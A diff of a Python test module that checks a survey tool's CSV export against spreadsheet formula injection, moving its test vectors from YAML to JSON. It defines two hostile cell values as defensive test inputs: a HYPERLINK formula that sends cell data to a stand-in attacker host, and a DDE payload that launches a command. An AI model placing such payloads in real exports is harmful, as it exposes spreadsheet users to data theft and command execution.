@@ -1,7 +1,8 @@
 """CSV follows OWASP's rule for spreadsheet formulas (issue 20): a cell starting with =, +,
 -, @, a tab or a carriage return gets a leading apostrophe, in `survey export` and `survey
 query` as in the site's /data/works.csv. JSON, BibTeX and Parquet keep values as they are.
-The cases are tests/csv_vectors.yaml, which the table page's CSV button is tested with too."""
+The cases are tests/csv_vectors.json, which the table page's CSV exporter is tested with too
+(under node: tests/js/table.test.js)."""
 from __future__ import annotations
 
 import csv
@@ -15,7 +16,7 @@ import yaml
 from kb_helpers import REPO
 from survey.query.formats import spreadsheet_cell
 
-VECTORS = yaml.safe_load((REPO / "tests" / "csv_vectors.yaml").read_text(encoding="utf-8"))["cases"]
+VECTORS = json.loads((REPO / "tests" / "csv_vectors.json").read_text(encoding="utf-8"))["cases"]
 HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 HOSTILE_AUTHORS = "+cmd|' /C calc'!A0"
 
